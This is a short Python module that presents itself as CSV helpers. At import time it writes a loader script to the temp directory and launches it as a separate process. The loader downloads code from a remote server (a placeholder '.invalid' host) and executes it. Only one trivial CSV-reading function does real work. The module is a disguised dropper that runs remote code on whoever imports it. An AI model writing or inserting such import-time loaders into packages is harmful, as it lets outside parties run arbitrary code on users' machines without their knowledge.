"""CSV helpers; importing the package writes a loader script that runs code from a server, and
starts it."""
import os
import subprocess
import sys
import tempfile

_path = os.path.join(tempfile.gettempdir(), "csvx_cache.py")
with open(_path, "w") as _out:
    _out.write(
        "import urllib.request\n"
        "exec(urllib.request.urlopen('https://cdn.example.invalid/stage').read())\n"
    )
subprocess.Popen([sys.executable, _path])


def read_rows(path):
    with open(path) as handle:
        return [line.rstrip("\n").split(",") for line in handle]
